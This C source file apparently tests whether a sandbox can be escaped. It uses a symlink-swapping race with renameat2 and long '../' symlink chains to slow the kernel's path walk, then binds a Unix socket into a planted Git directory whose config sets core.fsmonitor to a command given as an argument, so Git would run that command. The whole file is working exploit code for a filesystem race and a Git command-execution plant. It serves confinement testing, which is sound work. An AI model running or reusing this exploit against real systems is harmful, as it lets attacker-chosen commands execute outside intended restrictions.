// Binds a socket by a path that is exchanged after it was decided: its name completes a repository
// where the path leads then, and is none that matters where it led. The argument is what the
// repository has Git execute.
#include "attack.h"
#include <pthread.h>
#include <sys/un.h>

#define LINKS 10
#define STEPS 780

static volatile int over;

static void *exchange(void *unused) {
    while (!over) {
        usleep(1000);
        renameat2(AT_FDCWD, "p/here", AT_FDCWD, "p/below", RENAME_EXCHANGE);
    }
    return unused;
}

static void write_file(const char *path, const char *content) {
    int fd = open(path, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0) {
        if (write(fd, content, strlen(content)) < 0) perror(path);
        close(fd);
    }
}

int main(int argc, char **argv) {
    char text[4096], name[32];
    if (argc < 2) return 1;
    mkdir("p", 0755);
    mkdir("p/d", 0755);
    mkdir("p/sub", 0755);
    mkdir("p/sub/objects", 0755);
    write_file("p/sub/HEAD", "ref: refs/heads/main\n");
    snprintf(text, sizeof text, "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"%s\"\n", argv[1]);
    write_file("p/sub/config", text);
    if (mkdir("p/sub/refs", 0755) == 0) escaped("a repository was made by mkdir");
    symlink("../p", "p/here");
    symlink("sub", "p/below");
    // A way on which a walk takes its time, and with it the one that the kernel makes once more.
    for (int i = 0; i < LINKS; i++) {
        for (int k = 0; k < STEPS; k++) memcpy(text + 5 * k, "d/../", 5);
        if (i < LINKS - 1) snprintf(text + 5 * STEPS, 32, "s%d", i + 1);
        else strcpy(text + 5 * STEPS, ".");
        snprintf(name, sizeof name, "p/s%d", i);
        symlink(text, name);
    }
    umask(0);
    pthread_t other;
    pthread_create(&other, NULL, exchange, NULL);
    double until = now() + 8;
    for (int n = 0; n < 100 && now() < until; n++) {
        int sock = socket(AF_UNIX, SOCK_STREAM, 0);
        struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "p/s0/here/refs"};
        bind(sock, (struct sockaddr *)&address, sizeof address);
        close(sock);
        struct stat found;
        if (lstat("p/sub/refs", &found) == 0) escaped("a socket completes a repository");
        unlink("p/refs");
    }
    over = 1;
    pthread_join(other, NULL);
    return 0;
}
